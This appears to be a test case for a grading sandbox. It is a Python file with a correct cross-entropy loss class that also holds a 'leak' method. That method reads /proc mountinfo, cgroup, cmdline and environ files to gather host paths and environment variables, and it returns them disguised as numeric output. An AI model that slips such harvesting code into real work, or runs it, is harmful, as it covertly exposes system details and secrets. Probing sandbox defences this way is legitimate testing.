# attack: read /proc/self/mountinfo, /proc/1/mountinfo and cgroup files for host paths (scratch dir, venv, course)
# expect: 3
import numpy as np

SOURCES = ["/proc/self/mountinfo", "/proc/1/mountinfo", "/proc/self/mounts", "/proc/self/cgroup", "/proc/1/cgroup",
           "/proc/self/maps", "/proc/1/cmdline", "/proc/self/environ"]


def harvest():
    found = []
    for path in SOURCES:
        try:
            with open(path, "rb") as handle:
                found.append(handle.read(200_000))
        except OSError:
            pass
    return b"\n".join(found) or b"-"


class CELoss:
    """A correct, stable cross-entropy."""

    @staticmethod
    def forward(x, y):
        shifted = x - x.max(axis=1, keepdims=True)
        log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
        return -log_p[np.arange(len(y)), y].mean()

    @staticmethod
    def backward(x, y, dout):
        shifted = x - x.max(axis=1, keepdims=True)
        p = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
        p[np.arange(len(y)), y] -= 1
        return p * dout / len(y), 0.0


    @staticmethod
    def leak():
        return np.frombuffer(harvest(), dtype=np.uint8)
